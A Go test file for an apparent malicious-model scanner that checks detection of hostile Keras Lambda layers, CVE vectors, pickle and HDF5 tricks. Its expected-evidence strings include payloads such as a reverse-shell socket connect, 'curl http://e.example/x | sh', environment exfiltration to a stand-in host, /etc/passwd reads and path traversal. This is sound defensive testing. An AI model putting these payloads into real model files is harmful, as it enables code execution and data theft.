package keras_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/modelgate/modelgate/internal/finding"
	"github.com/modelgate/modelgate/internal/scantest"
)

// want is one finding a fixture must produce: rule, class, a substring of
// its evidence and the end of its location.
type want struct {
	rule     string
	class    finding.Class
	evidence string
	at       string
}

const (
	mal  = finding.Malicious
	sus  = finding.Suspicious
	info = finding.Informational
	fn   = "!config.json#/config/layers/1/config/function"
)

// matrixCases are the Lambda cases compiled under every CPython version:
// the grade each must get, its evidence and severity.
var matrixCases = map[string]struct {
	rule     string
	evidence string
	severity finding.Severity
}{
	"benign_mul":       {"KERAS-100", "no global references", finding.Info},
	"benign_tf":        {"KERAS-100", "tensorflow.reduce_sum", finding.Info},
	"benign_closure":   {"KERAS-100", "K.l2_normalize", finding.Info},
	"m1_eval":          {"KERAS-101", "M1 eval('1+1')", finding.Critical},
	"m2_import":        {"KERAS-101", "M2 __import__('subprocess')", finding.Critical},
	"m3_os_system":     {"KERAS-101", "M3 os.system('id')", finding.Critical},
	"m4_reverse_shell": {"KERAS-101", "M4 __import__('socket').socket().connect", finding.Critical},
	"m5_marshal":       {"KERAS-101", "M5 marshal.loads(codecs.decode(b'4w==', 'base64'))", finding.Critical},
	"m6_decode_exec":   {"KERAS-101", "M6 eval(__import__('base64').b64decode('MSsx'))", finding.Critical},
	"m7_reflection":    {"KERAS-101", "M7 'eval'", finding.Critical},
	"m8_unsafe_mode":   {"KERAS-101", "M8 keras.config.enable_unsafe_deserialization()", finding.Critical},
	"m9_bashrc":        {"KERAS-101", "M9 open('/home/u/.bashrc', 'a')", finding.Critical},
	"m10_exfil":        {"KERAS-101", "M10 __import__('urllib.request').request.urlopen('http://e.example/?' + os.environ['HOME'])", finding.Critical},
	"s1_environ":       {"KERAS-102", "S1 os.getenv('SCALE', '1')", finding.High},
	"s2_decode":        {"KERAS-102", "S2 codecs.decode('YWJj', 'base64')", finding.High},
	"s3_url":           {"KERAS-102", "S3 'http://evil.example/beacon'", finding.High},
	"s4_dunder":        {"KERAS-102", "S4 x.__class__", finding.High},
	"s5_listdir":       {"KERAS-102", "S5 os.listdir('.')", finding.High},
	"s6_cwd":           {"KERAS-102", "S6 os.getcwd()", finding.Medium},
	"s7_sleep":         {"KERAS-102", "S7 time.sleep(1)", finding.Medium},
	"s8_ctypes":        {"KERAS-102", "S8 ctypes.sizeof(ctypes.c_int)", finding.High},
	"s9_blob":          {"KERAS-102", "S9 'Zm9vYmFy", finding.High},
	"u1_unknown":       {"KERAS-102", "U1 foo.bar(x)", finding.Medium},
}

var pythons = map[string]string{"py36": "3.6", "py37": "3.7", "py38": "3.8", "py39": "3.9", "py310": "3.10",
	"py311": "3.11", "py312": "3.12", "py313": "3.13"}

var grades = map[string]finding.Class{"KERAS-100": info, "KERAS-101": mal, "KERAS-102": sus}

// TestLambdaMatrix: every indicator case compiled by every CPython 3.6-3.13
// gets exactly its grade, with the indicator's evidence, the version it was
// compiled with among those analysed, and nothing worse on benign code.
func TestLambdaMatrix(t *testing.T) {
	for py, ver := range pythons {
		for name, c := range matrixCases {
			t.Run(py+"/"+name, func(t *testing.T) {
				f := scantest.Sample(t, filepath.Join("keras", "lambda", py, name+".keras"))
				got := grade(f)
				if len(got) != 1 || got[0].Rule != c.rule {
					t.Fatalf("grades %v, want only %s", got, c.rule)
				}
				g := got[0]
				if g.Class != grades[c.rule] || g.Severity != c.severity {
					t.Errorf("%s is %s/%s, want %s/%s", g.Rule, g.Class, g.Severity, grades[c.rule], c.severity)
				}
				if !strings.Contains(g.Evidence, c.evidence) || !strings.Contains(g.Evidence, ver) {
					t.Errorf("evidence %q lacks %q or CPython %s", g.Evidence, c.evidence, ver)
				}
				if !strings.HasSuffix(g.Location, fn) {
					t.Errorf("location %s", g.Location)
				}
				if c.rule == "KERAS-100" && f.Verdict != finding.Safe {
					t.Errorf("benign Lambda has verdict %s: %v", f.Verdict, f.Findings)
				}
			})
		}
	}
}

// TestLambdaMatrixHDF5: the legacy HDF5 container, for every CPython
// version: a Keras 2 list-form Lambda, harmless and malicious, and the
// __lambda__ form Keras 3 writes into .h5; each with the legacy note.
func TestLambdaMatrixHDF5(t *testing.T) {
	cases := map[string]string{"k2_benign_tf": "benign_tf", "k2_m3_os_system": "m3_os_system", "k3_s1_environ": "s1_environ"}
	for py, ver := range pythons {
		for file, name := range cases {
			t.Run(py+"/"+file, func(t *testing.T) {
				f := scantest.Sample(t, filepath.Join("keras", "lambda_h5", py, file+".h5"))
				c := matrixCases[name]
				got := grade(f)
				if len(got) != 1 || got[0].Rule != c.rule || got[0].Class != grades[c.rule] {
					t.Fatalf("grades %v, want only %s", got, c.rule)
				}
				if !strings.Contains(got[0].Evidence, c.evidence) || !strings.Contains(got[0].Evidence, ver) {
					t.Errorf("evidence %q lacks %q or CPython %s", got[0].Evidence, c.evidence, ver)
				}
				if !strings.HasSuffix(got[0].Location, ".h5!model_config#/config/layers/1/config/function") {
					t.Errorf("location %s", got[0].Location)
				}
				if !has(f, want{"KERAS-210", info, "!model_config#/config/layers/1/config/function", ".h5"}) {
					t.Errorf("no legacy note:\n%s", dump(f))
				}
				if f.Formats[0] != "keras-h5" || len(f.Errors) > 0 {
					t.Errorf("formats %v errors %v", f.Formats, f.Errors)
				}
			})
		}
	}
}

// grade returns the Lambda grade findings (KERAS-100/101/102).
func grade(f finding.File) []finding.Finding {
	var out []finding.Finding
	for _, x := range f.Findings {
		if grades[x.Rule] != "" {
			out = append(out, x)
		}
	}
	return out
}

// fixtures are the other samples with the findings each must produce.
var fixtures = map[string][]want{
	// benign models: safe, info findings only
	"benign/sequential.keras":        nil,
	"benign/npz_weights.keras":       nil,
	"benign/model_to_json.json":      nil,
	"benign/lambda.keras":            {{"KERAS-100", info, "K.l2_normalize", fn}},
	"benign/functional_nested.keras": {{"KERAS-100", info, "keras.ops.concatenate", "#/config/layers/4/config/layers/1/config/function"}},
	"benign/dir/config.json":         {{"KERAS-100", info, "tensorflow.reduce_sum", "config.json#/config/layers/1/config/function"}},
	"benign/savedmodel/keras_metadata.pb": {{"KERAS-100", info, "no global references", "!nodes/1/metadata#/config/function"},
		{"KERAS-100", info, "no global references", "!nodes/0/metadata#/config/layers/1/config/function"},
		{"KERAS-210", info, "#/config/function", "keras_metadata.pb"}},
	"benign/keras2_lambda.h5": {{"KERAS-100", info, "tensorflow.reduce_sum", "!model_config#/config/layers/1/config/function"},
		{"KERAS-210", info, "!model_config#/config/layers/1/config/function", "keras2_lambda.h5"}},
	"benign/dir/model.weights.h5":       nil,
	"benign/custom_layer.keras":         {{"KERAS-130", info, `"registered_name": "MyPackage>ScaledDense"`, "!config.json#/config/layers/1"}},
	"benign/torch_module_wrapper.keras": {{"KERAS-120", info, "PK\\x03\\x04", "#/config/layers/1/config/module"}},
	// nested positions
	"nested/submodel_lambda.keras":        {{"KERAS-101", mal, "M3 os.system('id')", "#/config/layers/1/config/layers/0/config/layers/1/config/function"}},
	"nested/timedistributed_lambda.keras": {{"KERAS-101", mal, "M3 os.system('id')", "#/config/layers/1/config/layer/config/function"}},
	"nested/bidirectional_activation_lambda.keras": {{"KERAS-104", sus, "code 4w", "#/config/layers/1/config/layer/config/activation"},
		{"KERAS-102", sus, "S1 os.getenv", "#/config/layers/1/config/layer/config/activation"}},
	"nested/submodel_lambda.h5": {{"KERAS-101", mal, "M3 os.system('id')", "!model_config#/config/layers/1/config/layers/1/config/function"}},
	// __lambda__ wherever it appears
	"generic/activation_lambda.keras":  {{"KERAS-104", sus, "code 4w", "#/config/layers/1/config/activation"}},
	"generic/initializer_lambda.keras": {{"KERAS-101", mal, "M3 os.system('id')", "#/config/layers/1/config/kernel_initializer"}},
	"generic/loss_lambda.keras":        {{"KERAS-101", mal, "M1 eval('1+1')", "!config.json#/compile_config/loss"}},
	"generic/output_shape_lambda.keras": {{"KERAS-101", mal, "M3 os.system('id')", "#/config/layers/1/config/output_shape"},
		{"KERAS-100", info, "no global references", fn}},
	"generic/mask_lambda.keras":      {{"KERAS-102", sus, "S5 os.listdir('.')", "#/config/layers/1/config/mask"}},
	"generic/arguments_lambda.keras": {{"KERAS-101", mal, "M2 __import__('subprocess')", "#/config/layers/1/config/arguments/fn"}, {"KERAS-104", sus, "", "#/config/layers/1/config/arguments/fn"}},
	// every CVE vector
	"cve/cve_2025_1550_os_system.keras": {{"KERAS-110", mal, `"module": "os", "class_name": "function", "config": "system"`, fn},
		{"KERAS-113", sus, "curl http://e.example/x | sh", "#/config/layers/1/config/arguments/command"}},
	"cve/arguments_function_ref.keras": {{"KERAS-110", mal, `"config": "system"`, "#/config/layers/1/config/arguments/func"},
		{"KERAS-113", sus, `"ls -l"`, "#/config/layers/1/config/arguments/iterable/0"},
		{"KERAS-114", sus, `"config": "map"`, fn}},
	"cve/builtins_eval.keras":     {{"KERAS-110", mal, `"module": "builtins", "class_name": "function", "config": "eval"`, fn}},
	"cve/posix_spawn_class.keras": {{"KERAS-110", mal, `"module": "subprocess", "class_name": "Popen"`, "#/config/layers/1"}},
	"cve/cve_2025_8747_get_file.keras": {{"KERAS-111", mal, `"config": "get_file"`, fn},
		{"KERAS-113", sus, "https://e.example/payload.keras", "#/config/layers/1/config/arguments/origin"}},
	"cve/cve_2025_9906_enable_unsafe.keras": {{"KERAS-111", mal, `"config": "enable_unsafe_deserialization"`, fn},
		{"KERAS-101", mal, "M3 os.system('id')", "#/config/layers/2/config/function"}},
	"cve/cve_2025_9906_load_model.keras": {{"KERAS-111", mal, `"config": "load_model"`, fn},
		{"KERAS-113", sus, `"safe_mode": false`, "#/config/layers/1/config/arguments/safe_mode"},
		{"KERAS-113", sus, "/tmp/staged/model.keras", "#/config/layers/1/inbound_nodes/0/kwargs/inputs"}},
	"cve/set_global_attribute.keras": {{"KERAS-111", mal, `"config": "set_global_attribute"`, fn},
		{"KERAS-111", mal, "safe_mode_saving", "#/config/layers/1/inbound_nodes/0/args/0"}},
	"cve/internal_gadget.keras":  {{"KERAS-112", sus, `"module": "keras.src.utils.python_utils"`, fn}},
	"cve/foreign_function.keras": {{"KERAS-114", sus, `"module": "mylib.ops"`, fn}},
	"cve/webbrowser_open.keras":  {{"KERAS-114", sus, `"module": "webbrowser"`, fn}},
	"cve/cve_2025_49655_torch_module.keras": {{"KERAS-120", info, "259 bytes", "#/config/layers/1/config/module"},
		{"PICKLE-101", mal, "os.system('id')", "!config.json#/config/layers/1/config/module!archive/data.pkl@19"}},
	"cve/cve_2025_12058_vocabulary.keras": {{"KERAS-122", sus, `"vocabulary": "/etc/passwd"`, "#/config/layers/1/config/vocabulary"},
		{"KERAS-122", sus, `"proto": "gs://attacker-bucket/tokenizer.model"`, "#/config/layers/2/config/proto"}},
	"cve/cve_2026_1462_tfsmlayer.keras":   {{"KERAS-121", sus, `"filepath": "/tmp/attacker_savedmodel"`, "#/config/layers/1/config"}},
	"cve/cve_2026_12479_layer_name.keras": {{"KERAS-206", sus, "../../../../tmp/pwn", "#/config/layers/1/config/name"}},
	"cve/npz_object_weights.keras": {{"KERAS-203", sus, "|O", "!model.weights.npz!layers/dense/vars/0.npy"},
		{"PICKLE-101", mal, "os.system('id')", "!model.weights.npz!layers/dense/vars/0.npy!<object data>@19"}},
	"cve/archive_members.keras": {{"KERAS-201", sus, `"payload.pkl" (.pkl file)`, ".keras"},
		{"ARCHIVE-201", sus, "assets/../../evil.py", ".keras"}, {"PICKLE-101", mal, "os.system", "!payload.pkl@19"}},
	// HDF5 hazards, in a legacy model and in a .keras archive's weights
	"cve/external_storage.h5": {{"HDF5-201", sus, "external storage /layers/dense/vars/3 -> /etc/passwd", "!/layers/dense/vars/3"},
		{"HDF5-201", sus, "virtual dataset /layers/dense/vars/4 -> /home/victim/secret.h5:data", "!/layers/dense/vars/4"},
		{"HDF5-203", sus, "soft link /layers/dense/vars/5 -> /layers/dense/vars/0", "!/layers/dense/vars/5"}},
	"cve/weights_external_link.keras": {{"HDF5-201", sus, "external link /layers/dense/vars/2 -> /etc/passwd.h5:/data",
		"!model.weights.h5!/layers/dense/vars/2"}},
	"cve/weights_shape_bomb.keras": {{"HDF5-202", sus, "declares 4000000000000 bytes, stores 0", "!model.weights.h5!/layers/dense/vars/2"}},
	"anomaly/truncated.h5":         {{"HDF5-204", sus, "file is truncated", "truncated.h5"}},
	// Keras 2 shapes, as legacy HDF5 and as model.to_json
	"keras2/lambda_module_os.h5": {{"KERAS-101", mal, "M3 system('id')", "!model_config#/config/layers/1/config/function"},
		{"KERAS-105", sus, `"module": "os"`, "!model_config#/config/layers/1/config/function"},
		{"KERAS-210", info, "!model_config#/config/layers/1/config/function", "lambda_module_os.h5"}},
	"keras2/function_type_os_system.h5": {{"KERAS-110", mal, `"config": "system"`, "!model_config#/config/layers/1/config/function"}},
	"keras2/tfoplambda_write_file.h5": {{"KERAS-123", sus, `"function": "io.write_file"`, "!model_config#/config/layers/1/config/function"},
		{"KERAS-113", sus, "/home/u/.bashrc", "!model_config#/config/layers/1/inbound_nodes/0/3/filename"}},
	"keras2/lambda_module_os.json": {{"KERAS-101", mal, "M3 system('id')", "#/config/layers/1/config/function"},
		{"KERAS-105", sus, `"module": "os"`, "#/config/layers/1/config/function"},
		{"KERAS-210", info, "#/config/layers/1/config/function", "lambda_module_os.json"}},
	"keras2/function_type_os_system.json": {{"KERAS-110", mal, `"config": "system"`, "#/config/layers/1/config/function"}},
	"keras2/tfoplambda_write_file.json": {{"KERAS-123", sus, `"function": "io.write_file"`, "#/config/layers/1/config/function"},
		{"KERAS-113", sus, "/home/u/.bashrc", "#/config/layers/1/inbound_nodes/0/3/filename"}},
	"keras2/model_to_json_m3.json":           {{"KERAS-101", mal, "M3 os.system('id')", "#/config/layers/1/config/function"}},
	"keras2/savedmodel_m3/keras_metadata.pb": {{"KERAS-101", mal, "M3 os.system('id')", "!nodes/1/metadata#/config/function"}},
	// what json.loads accepts and Keras never writes; code strings func_dump never writes
	"anomaly/utf16_config.keras": {{"KERAS-207", sus, "encoded as utf-16", "!config.json#"},
		{"KERAS-101", mal, "M3 os.system('id')", fn}},
	"anomaly/duplicate_keys_nan.keras": {{"KERAS-207", sus, `duplicate key "layers"`, "!config.json#"},
		{"KERAS-207", sus, "NaN literal", "!config.json#"}, {"KERAS-101", mal, "M3 os.system('id')", fn}},
	"anomaly/padded_dir/config.json":      {{"KERAS-101", mal, "M3 os.system('id')", "config.json#/config/layers/1/config/function"}},
	"anomaly/no_metadata.keras":           {{"KERAS-101", mal, "M3 os.system('id')", fn}},
	"anomaly/lambda_trailing_data.keras":  {{"KERAS-103", sus, "A1", fn}},
	"anomaly/lambda_raw_escape.keras":     {{"KERAS-103", sus, "raw_unicode_escape", fn}},
	"anomaly/lambda_named_function.keras": {{"KERAS-103", sus, "A3", fn}},
	"anomaly/lambda_garbage.keras":        {{"KERAS-103", sus, "AAAA", fn}},
}

// TestFixtures checks every other sample's findings by rule, class,
// evidence and location; benign models must stay safe with info findings.
func TestFixtures(t *testing.T) {
	for name, wants := range fixtures {
		t.Run(name, func(t *testing.T) {
			f := scantest.Sample(t, filepath.Join("keras", name))
			if len(f.Errors) > 0 {
				t.Errorf("errors: %v", f.Errors)
			}
			for _, w := range wants {
				if !has(f, w) {
					t.Errorf("no %s (%s) with evidence %q at …%s; got:\n%s", w.rule, w.class, w.evidence, w.at, dump(f))
				}
			}
			if strings.HasPrefix(name, "benign/") && f.Verdict != finding.Safe {
				t.Errorf("benign model has verdict %s:\n%s", f.Verdict, dump(f))
			}
		})
	}
}

func has(f finding.File, w want) bool {
	for _, x := range f.Findings {
		if x.Rule == w.rule && x.Class == w.class && strings.Contains(x.Evidence, w.evidence) &&
			(strings.HasSuffix(x.Location, w.at) || strings.HasSuffix(x.Location, w.at+"#")) {
			return true
		}
	}
	return false
}

func dump(f finding.File) string {
	var b strings.Builder
	for _, x := range f.Findings {
		b.WriteString("  " + x.Rule + " " + string(x.Class) + " " + x.Location + "\n      " + x.Evidence + "\n")
	}
	return b.String()
}

// TestConfigJSONFormat: a config.json claimed by its name is reported as a
// Keras config only when Keras could load it; other JSON configs that share
// the name (sentence-transformers pooling, timm) are plain json, and still
// walked.
func TestConfigJSONFormat(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) string {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	pooling := write("1_Pooling/config.json", `{"word_embedding_dimension": 384, "pooling_mode_mean_tokens": true}`)
	hostile := write("x/config.json", `{"pad": "`+strings.Repeat(" ", 5000)+`", "module": "os", "class_name": "system", "config": {}}`)
	if f := scantest.File(t, pooling); f.Verdict != finding.Safe || len(f.Formats) != 1 || f.Formats[0] != "json" {
		t.Errorf("pooling config: verdict %s formats %v", f.Verdict, f.Formats)
	}
	f := scantest.File(t, hostile)
	if len(f.Formats) != 1 || f.Formats[0] != "keras-config" {
		t.Errorf("padded Keras object: formats %v", f.Formats)
	}
	if _, ok := scantest.Has(f, "KERAS-110"); !ok {
		t.Errorf("padded Keras object importing os.system: %s", dump(f))
	}
	f = scantest.Sample(t, filepath.Join("keras", "anomaly", "padded_dir", "config.json"))
	if len(f.Formats) != 1 || f.Formats[0] != "keras-config" {
		t.Errorf("padded_dir: formats %v", f.Formats)
	}
}
